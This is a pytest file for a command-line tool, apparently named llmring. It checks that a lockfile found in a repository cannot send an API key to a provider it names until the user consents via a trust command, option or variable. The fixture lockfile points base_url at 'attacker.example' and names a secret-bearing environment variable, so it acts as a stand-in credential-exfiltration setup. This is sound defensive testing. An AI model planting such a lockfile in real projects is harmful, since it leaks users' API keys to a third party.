"""Commands follow a lockfile that was merely found only where the user agrees."""

import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

import answers
from cli.terminal import Call, is_plain_error, run_on_terminal, write
from loopback import Loopback

SECRET = "not-for-the-author-of-a-lockfile"
ANSWER = answers.openai("Hi")

BOUND = '\n[[profiles.default.bindings]]\nalias = "default"\nmodels = ["mine:m"]\n'


@pytest.fixture(autouse=True)
def state(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("MY_KEY", SECRET)
    monkeypatch.delenv("LLMRING_TRUST", raising=False)


@pytest.fixture
def attacker(serve: Callable[..., Loopback], monkeypatch: pytest.MonkeyPatch) -> Loopback:
    """Return the server that requests to every host but this machine reach, as a proxy."""
    server = serve(ANSWER)
    monkeypatch.setenv("HTTP_PROXY", server.url)
    monkeypatch.delenv("NO_PROXY", raising=False)
    return server


def lockfile(extra: str = "", name: str = "llmring.lock") -> Path:
    table = '[providers.mine]\nkind = "openai"\nbase_url = "http://attacker.example/v1"\n'
    return write(f'{table}api_key_env = "MY_KEY"\n{extra}{BOUND}', name)


COMMANDS: list[list[str]] = [
    ["chat", "Hi"],
    ["chat", "--model", "mine:m", "Hi"],
    ["lock", "chat", "--model", "mine:m", "Hi"],
    ["lock", "try", "default=mine:n"],
    ["doctor", "--live"],
    ["registry", "update"],
    ["serve", "--port", "0"],
]


@pytest.mark.parametrize("words", COMMANDS, ids=" ".join)
def test_a_lockfile_that_was_found_sends_no_key_unasked(
    call: Call, attacker: Loopback, words: list[str]
) -> None:
    lockfile()

    result = call(*words)

    assert result.code == 1
    assert "sends the key in MY_KEY to attacker.example (providers.mine)" in result.err
    assert result.err.rstrip().endswith("if you agree, run: llmring trust")
    assert attacker.requests == []


@pytest.mark.parametrize("variables", [{}, {"HOME": "."}])
def test_a_repository_can_t_bring_its_own_list_of_trusted_lockfiles(
    call: Call, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, variables: dict[str, str]
) -> None:
    path = lockfile()
    call("trust")
    for folder in ("~/.local/state/llmring", ".local/state/llmring"):
        Path(folder).mkdir(parents=True)
        shutil.copy(tmp_path / "state" / "llmring" / "trusted.json", folder)
    for name in ("HOME", "USERPROFILE", "XDG_STATE_HOME"):
        monkeypatch.delenv(name, raising=False)
    for name, value in variables.items():
        monkeypatch.setenv(name, value)

    result = call("chat", "Hi")

    assert result.code == 1
    assert f"{path} is not trusted" in result.err
    assert "set HOME or XDG_STATE_HOME" in call("trust").err


@pytest.mark.parametrize("consent", ["command", "option", "variable", "--file", "path"])
def test_a_lockfile_is_followed_after_consent(
    call: Call, attacker: Loopback, monkeypatch: pytest.MonkeyPatch, consent: str
) -> None:
    path = lockfile()
    words = {"option": ["--trust"], "--file": ["--file", str(path)]}.get(consent, [])
    if consent == "command":
        assert call("trust").code == 0
    elif consent == "variable":
        monkeypatch.setenv("LLMRING_TRUST", "1")
    elif consent == "path":
        monkeypatch.setenv("LLMRING_LOCKFILE_PATH", str(path))

    result = call("chat", *words, "Hi")

    assert (result.code, result.out) == (0, "Hi\n")
    [request] = attacker.requests
    assert request.headers["authorization"] == f"Bearer {SECRET}"


def test_a_changed_setting_needs_consent_again_and_a_changed_alias_does_not(
    call: Call, attacker: Loopback
) -> None:
    lockfile()
    call("trust")

    lockfile('headers = { x-team = "a" }\n')
    assert call("chat", "Hi").code == 1

    lockfile()
    call("bind", "other", "mine:n")
    assert call("chat", "--model", "other", "Hi").code == 0
    assert len(attacker.requests) == 1


def test_a_lockfile_of_aliases_needs_no_consent(call: Call) -> None:
    write('[[profiles.default.bindings]]\nalias = "default"\nmodels = ["mock:echo"]\n')

    assert call("chat", "Hi").code == 0


def test_commands_that_send_nothing_need_no_consent(call: Call) -> None:
    lockfile()

    for words in (["aliases"], ["explain", "default"], ["lock", "validate"], ["providers"]):
        assert "llmring trust" not in call(*words).err


@pytest.mark.parametrize(("reply", "code"), [("y", 0), ("n", 1), ("", 1)])
def test_on_a_terminal_the_user_is_asked_and_the_answer_remembered(
    attacker: Loopback, reply: str, code: int
) -> None:
    lockfile()
    ended, shown = run_on_terminal("chat", "--no-stream", "Hi", typed=f"{reply}\n")

    assert ended == code
    assert "sends the key in MY_KEY to attacker.example" in shown
    assert len(attacker.requests) == (1 if code == 0 else 0)


def test_a_damaged_list_of_trusted_lockfiles_is_a_plain_error(
    call: Call, attacker: Loopback, tmp_path: Path
) -> None:
    lockfile()
    (tmp_path / "state" / "llmring").mkdir(parents=True)
    (tmp_path / "state" / "llmring" / "trusted.json").write_text("no")

    result = call("trust", "--show")

    assert (result.code, attacker.requests) == (1, [])
    assert is_plain_error(result.err)
